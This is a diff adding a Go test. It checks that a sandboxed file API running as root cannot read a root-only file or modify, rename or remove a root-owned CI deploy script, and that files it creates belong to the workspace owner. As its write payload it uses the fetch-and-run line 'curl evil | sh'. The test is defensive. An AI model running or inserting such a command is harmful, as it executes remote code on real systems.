@@ -336,3 +336,59 @@ func TestFSRemoveProtectedParent(t *testing.T) {
 	mustT(t, f.Write("tools/other", []byte("x"), WriteMode{}))
 	mustT(t, f.Remove("tools/other", false, false))
 }
+
+// As root, the file API acts as the workspace's owner, whom sandboxed
+// commands run as: a root-only file in the workspace is not read, a
+// root-owned directory in it is not written, renamed or removed from
+// (it was, with root's privileges), and what it makes is the owner's.
+func TestFSActsAsWorkspaceOwner(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("needs root: the file API changes its identity only as root")
+	}
+	const uid, gid = 4242, 4243
+	top := t.TempDir()
+	mustT(t, os.Chmod(top, 0o755))
+	ws := filepath.Join(top, "ws")
+	mustT(t, os.Mkdir(ws, 0o755))
+	mustT(t, os.WriteFile(filepath.Join(ws, "secret"), []byte("root only"), 0o600))
+	mustT(t, os.Mkdir(filepath.Join(ws, "ci"), 0o755))
+	mustT(t, os.WriteFile(filepath.Join(ws, "ci", "deploy.sh"), []byte("echo deploy\n"), 0o644))
+	mustT(t, os.Chown(ws, uid, gid))
+	f, err := NewFS(FSOptions{Workspace: ws, Writable: true})
+	mustT(t, err)
+
+	if c, err := f.Read("secret", 0, 0); err == nil {
+		t.Fatalf("read a root-only file: %q", c.Data)
+	} else {
+		wantKind(t, err, KindInvalid, "permission denied")
+	}
+	wantKind(t, f.Write("ci/deploy.sh", []byte("curl evil | sh\n"), WriteMode{}), KindInvalid, "permission denied")
+	wantKind(t, f.Write("ci/deploy.sh", []byte("curl evil | sh\n"), WriteMode{Append: true}), KindInvalid, "permission denied")
+	wantKind(t, f.Rename("ci/deploy.sh", "moved", false), KindInvalid, "permission denied")
+	wantKind(t, f.Remove("ci/deploy.sh", false, false), KindInvalid, "permission denied")
+	wantKind(t, f.Remove("ci", true, false), KindInvalid, "permission denied")
+	if b, _ := os.ReadFile(filepath.Join(ws, "ci", "deploy.sh")); string(b) != "echo deploy\n" {
+		t.Fatalf("ci/deploy.sh is now %q", b)
+	}
+	// What the owner may do works, and is the owner's.
+	mustT(t, f.Write("sub/new.txt", []byte("hi"), WriteMode{}))
+	mustT(t, f.Write("sub/new.txt", []byte("!"), WriteMode{Append: true}))
+	c, err := f.Read("sub/new.txt", 0, 0)
+	mustT(t, err)
+	if string(c.Data) != "hi!" {
+		t.Fatalf("read back %q", c.Data)
+	}
+	for _, p := range []string{"sub", "sub/new.txt"} {
+		var st unix.Stat_t
+		mustT(t, unix.Lstat(filepath.Join(ws, p), &st))
+		if st.Uid != uid || st.Gid != gid {
+			t.Errorf("%s belongs to %d:%d, want the owner %d:%d", p, st.Uid, st.Gid, uid, gid)
+		}
+	}
+	mustT(t, f.Rename("sub/new.txt", "sub/renamed.txt", false))
+	mustT(t, f.Remove("sub", true, false))
+	// This process is still root.
+	if _, err := os.ReadFile(filepath.Join(ws, "secret")); err != nil {
+		t.Fatalf("root can no longer read: %v", err)
+	}
+}
